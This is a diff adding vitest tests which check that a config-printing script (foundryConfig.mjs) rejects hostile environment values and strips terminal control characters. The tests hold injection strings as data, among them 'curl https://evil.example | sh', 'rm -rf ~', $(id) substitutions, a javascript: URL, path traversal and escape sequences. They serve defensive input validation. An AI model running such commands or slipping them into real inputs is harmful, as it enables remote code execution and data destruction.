@@ -4,6 +4,7 @@ import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { devConnection, writeDevConnection } from '../../sandbox/devConnection.js';
 import { REPO_ROOT } from './infraFiles.js';
 
 const SCRIPT = join(REPO_ROOT, 'infra', 'scripts', 'foundryConfig.mjs');
@@ -140,5 +141,129 @@ describe('foundryConfig.mjs', () => {
     const run = await runScript(['--env-file', join(dir, 'nowhere.env')]);
     expect(run.code).toBe(1);
     expect(run.stderr).toContain('nowhere.env');
+  });
+});
+
+/** Anything a terminal would act on: C0/C1 controls (ESC, BEL, CSI), DEL. */
+const TERMINAL_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
+
+describe('foundryConfig.mjs with hostile values', () => {
+  async function runWith(values: Record<string, string>, args: readonly string[] = []): Promise<Run> {
+    const file = join(dir, `hostile-${Math.random().toString(36).slice(2)}.env`);
+    await writeFile(file, `${dotenv(values)}\n`);
+    return runScript(['--env-file', file, ...args]);
+  }
+
+  it.each([
+    ['CLIENT_APP_ID', `${CLIENT}; curl https://evil.example | sh`],
+    ['CLIENT_APP_ID', '$(touch /tmp/pwned)'],
+    ['SERVER_APP_ID', 'not-a-guid'],
+    ['AZURE_TENANT_ID', '../../etc'],
+  ])('refuses %s that is not a GUID: %s', async (name, value) => {
+    const run = await runWith({ ...OUTPUTS, [name]: value });
+    expect(run.code).toBe(1);
+    expect(run.stdout).toBe('');
+    expect(run.stderr).toContain(`${name} must be a`);
+  });
+
+  it.each([
+    ['MCP_URL', 'http://func-api-abc123.azurewebsites.net/mcp'],
+    ['MCP_URL', 'https://user:password@func.example/mcp'],
+    ['FOUNDRY_AUTH_URL', `${LOGIN}/authorize$(id)`],
+    ['FOUNDRY_TOKEN_URL', `${LOGIN}/token'; rm -rf ~; echo '`],
+    ['FOUNDRY_REFRESH_URL', 'javascript:alert(1)'],
+    ['ADMIN_CONSENT_URL', 'https://login.example/`id`'],
+    ['FOUNDRY_REDIRECT_URI', 'https://ok.example/cb,https://x.example/"$(id)"'],
+  ])('refuses %s that is not a plain https URL: %s', async (name, value) => {
+    const run = await runWith({ ...OUTPUTS, [name]: value });
+    expect(run.code).toBe(1);
+    expect(run.stdout).toBe('');
+    expect(run.stderr).toContain(name);
+  });
+
+  it('refuses scopes that are not space-separated scope tokens', async () => {
+    const run = await runWith({ ...OUTPUTS, FOUNDRY_SCOPES: `${SERVER}/access_as_user\noffline_access` });
+    expect(run.code).toBe(1);
+    expect(run.stderr).toContain('FOUNDRY_SCOPES');
+  });
+
+  it('never passes control characters to the terminal, in what it refuses or what it prints', async () => {
+    const escape = '\u001b]0;owned\u0007\u001b[2J\u009b31m';
+    const refused = await runWith({ ...OUTPUTS, CLIENT_APP_ID: `${CLIENT}${escape}`, MCP_URL: `https://func.example/mcp${escape}` });
+    expect(refused.code).toBe(1);
+    expect(refused.stderr).toContain('CLIENT_APP_ID');
+    expect(refused.stderr).toContain('\\u001b');
+    expect(refused.stderr).not.toMatch(TERMINAL_CONTROL);
+
+    // A file name is printed as the source, and the shell lets it hold an escape sequence.
+    const file = join(dir, `prod\u001b[31m\u009b2J.env`);
+    await writeFile(file, `${dotenv(OUTPUTS)}\n`);
+    const printed = await runScript(['--env-file', file]);
+    expect(printed.code).toBe(0);
+    expect(printed.stdout).toContain('prod[31m2J.env');
+    expect(printed.stdout).not.toMatch(TERMINAL_CONTROL);
+  });
+
+  it('refuses an azd environment name that leaves .azure/', async () => {
+    const run = await runScript(['--environment', '../../etc']);
+    expect(run.code).toBe(1);
+    expect(run.stderr).toContain('azd environment names');
+  });
+});
+
+describe('foundryConfig.mjs --dev', () => {
+  const SECRET = 'dev~rQ3x9Zk1m2N8pL7vT0yB4wC6dF5gH2jK';
+  const AUTHORITY = 'https://localhost:7172';
+
+  async function devFile(pid: number, overrides: Record<string, string> = {}): Promise<string> {
+    const file = join(dir, `dev-${pid}-${Math.random().toString(36).slice(2)}.json`);
+    const connection = devConnection({
+      mcpUrl: 'http://localhost:7171/mcp', authorityHost: AUTHORITY, serverClientId: SERVER, foundryClientId: CLIENT,
+      foundryClientSecret: SECRET, foundryRedirectUris: ['http://localhost/foundry/redirect'], caCertPath: '/tmp/ca.pem', pid,
+    });
+    writeDevConnection(file, { ...connection, values: { ...connection.values, ...overrides } });
+    return file;
+  }
+
+  it('prints the running dev connection, secret included, as the rehearsal reads it', async () => {
+    const file = await devFile(process.pid);
+    const run = await runScript(['--dev', '--dev-file', file]);
+    expect(run.stderr).toBe('');
+    expect(run.code).toBe(0);
+    const authority = `${AUTHORITY}/organizations/oauth2/v2.0`;
+    for (const [label, value] of [
+      ['MCP server endpoint', 'http://localhost:7171/mcp'], ['Client ID', CLIENT], ['Client secret', SECRET],
+      ['Auth URL', `${authority}/authorize`], ['Token URL', `${authority}/token`], ['Refresh URL', `${authority}/token`],
+      ['Scopes', `${SERVER}/access_as_user offline_access`],
+    ] as const) {
+      expect(printsField(run.stdout, label, value), `${label}: ${lineOf(run.stdout, label) ?? '(not printed)'}`).toBe(true);
+    }
+    expect(run.stdout).toContain('npm run foundry:rehearse');
+
+    const json = await runScript(['--dev-file', file, '--json']);
+    expect(JSON.parse(json.stdout)).toEqual({
+      'MCP server endpoint': 'http://localhost:7171/mcp', 'Client ID': CLIENT, 'Client secret': SECRET,
+      'Auth URL': `${authority}/authorize`, 'Token URL': `${authority}/token`, 'Refresh URL': `${authority}/token`,
+      Scopes: `${SERVER}/access_as_user offline_access`,
+    });
+  });
+
+  it('refuses the file of an npm start that has stopped', async () => {
+    const run = await runScript(['--dev-file', await devFile(999_999_999)]);
+    expect(run.code).toBe(1);
+    expect(run.stderr).toContain('no longer running');
+  });
+
+  it('says how to get one when there is none', async () => {
+    const run = await runScript(['--dev'], dir);
+    expect(run.code).toBe(1);
+    expect(run.stderr).toContain('npm start');
+  });
+
+  it('validates the dev values like any other', async () => {
+    const run = await runScript(['--dev-file', await devFile(process.pid, { FOUNDRY_CLIENT_SECRET: 'x\u001b[2J' })]);
+    expect(run.code).toBe(1);
+    expect(run.stderr).toContain('FOUNDRY_CLIENT_SECRET');
+    expect(run.stderr).not.toMatch(TERMINAL_CONTROL);
   });
 });
